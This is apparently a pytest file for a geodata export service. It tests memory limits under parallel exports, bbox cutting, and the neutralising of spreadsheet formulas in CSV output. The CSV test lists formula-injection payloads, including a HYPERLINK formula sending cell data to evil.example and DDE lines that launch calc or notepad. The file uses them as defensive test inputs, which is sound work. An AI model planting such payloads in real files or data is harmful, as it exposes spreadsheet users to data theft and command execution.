""""Download what I see" from the attacker's side: many parallel exports of a 300,000-point
layer, unauthenticated, against the running service. The server's peak memory stays bounded,
single-item reads stay fast, the cap is announced, the bbox is cut in SQL, and every CSV the
service writes neutralises spreadsheet formulas."""

from __future__ import annotations

import csv
import io
import json
import statistics
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import httpx
import psycopg
import pytest

from geo_service.io.exporter import export_path
from tests.conftest import make_settings
from tests.io.files import registry
from tests.utils.builders import add_meeting_place
from tests.utils.server import LiveServer

POINTS = 300_000
PARALLEL = 20
LOWER_SAXONY = "6.6,51.29,11.65,53.9"


def _children(pid: int) -> list[int]:
    pids: list[int] = []
    for task in Path(f"/proc/{pid}/task").iterdir():
        pids += [int(p) for p in (task / "children").read_text().split()]
    return pids


def _vm(pid: int, field: str) -> int:
    """A /proc/<pid>/status figure in MB (VmHWM: the peak resident set, VmRSS: now)."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(field + ":"):
            return int(line.split()[1]) // 1024
    raise AssertionError(f"{field} missing")


@pytest.fixture(scope="module")
def big_layer(pg_cluster) -> str:  # type: ignore[no-untyped-def]
    """A database whose playground layer holds 300,000 points across Lower Saxony."""
    url = pg_cluster.create_database()
    with psycopg.connect(url) as conn:
        conn.execute(
            "INSERT INTO features (layer, properties, geom) "
            "SELECT 'spielplaetze', jsonb_build_object('name', 'Spielplatz ' || i, "
            "'age_group', '0-6', 'operator', 'Stadt Beispiel'), "
            "ST_SetSRID(ST_MakePoint(7 + (i %% 997) * 0.004, 51.5 + (i / 997) * 0.0065), 4326) "
            "FROM generate_series(1, %s) AS i", (POINTS,))
    yield url
    pg_cluster.drop_database(url)


def test_parallel_exports_keep_memory_bounded_and_reads_fast(big_layer: str) -> None:
    settings = make_settings(big_layer)  # shipped export cap (50,000) and slots (2 per process)
    with LiveServer(settings) as live:
        pid = live._process.pid  # type: ignore[union-attr]
        item = live.get("/collections/meeting_places/items?limit=1").json()["features"][0]["id"]
        live.get(f"/collections/meeting_places/items/{item}")
        live.get("/planung/export/spielplaetze", params={"bbox": "9,52,9.01,52.01"})  # warm up
        before = _vm(pid, "VmHWM")

        latencies: list[float] = []
        done = threading.Event()
        child_peaks: dict[int, int] = {}

        def watch_children() -> None:
            """The export processes' own peaks (each is sampled until it exits)."""
            while not done.is_set():
                for child in _children(pid):
                    try:
                        child_peaks[child] = max(child_peaks.get(child, 0), _vm(child, "VmHWM"))
                    except (OSError, AssertionError):
                        pass  # exited meanwhile
                time.sleep(0.1)

        def read_items() -> None:
            with httpx.Client(base_url=live.url, timeout=30) as client:
                while not done.is_set():
                    started = time.perf_counter()
                    assert client.get(f"/collections/meeting_places/items/{item}").status_code == 200
                    latencies.append(time.perf_counter() - started)
                    time.sleep(0.05)

        def export(n: int) -> httpx.Response:
            with httpx.Client(base_url=live.url, timeout=120) as client:
                fmt = ("geojson", "gpkg", "csv")[n % 3]
                return client.get("/planung/export/spielplaetze",
                                  params={"bbox": LOWER_SAXONY, "format": fmt})

        reader = threading.Thread(target=read_items)
        reader.start()
        watcher = threading.Thread(target=watch_children)
        watcher.start()
        started = time.perf_counter()
        try:
            with ThreadPoolExecutor(PARALLEL) as pool:
                answers = list(pool.map(export, range(PARALLEL)))
        finally:
            done.set()
            reader.join()
            watcher.join()
        elapsed = time.perf_counter() - started
        peak = _vm(pid, "VmHWM")

        statuses = [a.status_code for a in answers]
        p95 = statistics.quantiles(latencies, n=20)[-1]
        served = [a for a in answers if a.status_code == 200]
        print(f"\n{PARALLEL} parallel exports of {POINTS} points in {elapsed:.1f} s: "
              f"{statuses.count(200)}x 200, {statuses.count(503)}x 503; server peak RSS "
              f"{before} -> {peak} MB, export processes' peaks {sorted(child_peaks.values())} MB; "
              f"item reads n={len(latencies)} median "
              f"{statistics.median(latencies) * 1000:.0f} ms, 95th percentile {p95 * 1000:.0f} ms, "
              f"max {max(latencies) * 1000:.0f} ms")
        assert set(statuses) <= {200, 503}, statuses
        assert served, "no export was served at all"
        for answer in answers:
            if answer.status_code == 503:  # all slots busy: told when to come back
                assert int(answer.headers["retry-after"]) > 0
                assert "Exporte" in answer.json()["description"]
        for answer in served:  # the cap cut the view, and the answer says so
            assert answer.headers["export-truncated"] == "true"
            assert answer.headers["export-features"] == str(settings.export_max_features)
            assert answer.headers["export-limit"] == str(settings.export_max_features)
        for answer in served:
            if answer.headers["content-type"] == "application/geo+json":
                assert len(json.loads(answer.content)["features"]) == settings.export_max_features
        # Before the fix: 350 MB -> 2.3 GB, and reads took 2 s.
        assert peak - before < 400, f"peak RSS grew by {peak - before} MB"
        assert child_peaks and max(child_peaks.values()) < 400, child_peaks
        # The 95th percentile, not the maximum: one read on a machine busy with other work can
        # stall for reasons of its own.
        assert p95 < 1.0, f"single-item reads took {p95:.2f} s (95th percentile)"
        assert live.get("/healthz").status_code == 200


def test_export_is_cut_by_bbox_in_sql_and_says_when_nothing_was_cut(big_layer: str) -> None:
    with LiveServer(make_settings(big_layer)) as live:
        bbox = "9.0,52.0,9.1,52.05"
        answer = live.get("/planung/export/spielplaetze", params={"bbox": bbox})
        assert answer.status_code == 200
        doc = answer.json()
        api = live.get("/collections/spielplaetze/items",
                       params={"bbox": bbox, "limit": 10000}).json()
        assert sorted(f["properties"]["id"] for f in doc["features"]) == sorted(
            int(str(f["id"]).split(".")[-1]) for f in api["features"])
        assert 0 < len(doc["features"]) < 1000
        assert answer.headers["export-truncated"] == "false"
        assert answer.headers["export-features"] == str(len(doc["features"]))
        for feature in doc["features"]:
            lon, lat = feature["geometry"]["coordinates"]
            assert 9.0 <= lon <= 9.1 and 52.0 <= lat <= 52.05


HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?"&A1,"Klick")', "+1+cmd|' /C calc'!A0",
                 "-2+3+cmd|' /C notepad'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
                 "\t=1+1", "\r=1+1"]


def test_csv_exports_neutralise_formulas(db_url: str, tmp_path: Path) -> None:
    """A name, operator or description that a spreadsheet would run comes out as text, in the
    planner's download and in the CLI's export alike; numbers stay numbers."""
    for n, cell in enumerate(HOSTILE_CELLS):
        add_meeting_place(db_url, name=cell, lon=10.56 + n * 0.001, lat=52.48,
                          operator=cell, description=cell)
    with LiveServer(make_settings(db_url)) as live:
        body = live.get("/planung/export/meeting_places",
                        params={"bbox": "10.5,52.4,10.7,52.6", "format": "csv"}).text
    path = tmp_path / "treffpunkte.csv"
    export_path(db_url, registry(), "meeting_places", path)
    for text in (body, path.read_bytes().decode("utf-8")):  # bytes: keep a CR inside a cell
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        hostile = [r for r in rows if r["name"].lstrip("'") in HOSTILE_CELLS]
        assert len(hostile) == len(HOSTILE_CELLS)
        for row in hostile:
            for column in ("name", "operator", "description"):
                assert row[column].startswith("'"), (column, row[column])
                assert row[column][1:] in HOSTILE_CELLS
        for row in rows:  # nothing else starts a formula either
            assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
            assert float(row["lon"]) > 0 and row["id"].isdigit()
